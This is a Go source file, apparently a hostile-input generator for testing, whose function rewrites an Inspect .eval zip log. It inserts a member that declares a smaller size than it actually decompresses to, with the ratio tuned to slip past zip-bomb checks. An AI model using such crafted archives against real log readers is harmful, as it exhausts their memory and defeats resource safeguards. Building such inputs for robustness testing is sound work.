package hostile

import (
	"archive/zip"
	"bytes"
	"io"
)

// InspectHeader rewrites the Inspect .eval log eval (a zip) so that its
// member name declares declared bytes: a deflate stream of zeros a fifth
// longer than that (compressed, more than a thousandth of what it
// declares: within the ratio zip bombs are refused by). A header of
// 500 MB took 1.4 GB to read whole. The other members are copied as they
// are.
func InspectHeader(eval []byte, name string, declared uint64) ([]byte, error) {
	zr, err := zip.NewReader(bytes.NewReader(eval), int64(len(eval)))
	if err != nil {
		return nil, err
	}
	data, crc := Bomb(int(declared>>20)*6/5 + 1)
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name == name {
			continue
		}
		w, err := zw.CreateRaw(&f.FileHeader)
		if err != nil {
			return nil, err
		}
		rc, err := f.OpenRaw()
		if err != nil {
			return nil, err
		}
		if _, err := io.Copy(w, rc); err != nil {
			return nil, err
		}
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(data)), UncompressedSize64: declared})
	if err != nil {
		return nil, err
	}
	if _, err := w.Write(data); err != nil {
		return nil, err
	}
	err = zw.Close()
	return out.Bytes(), err
}
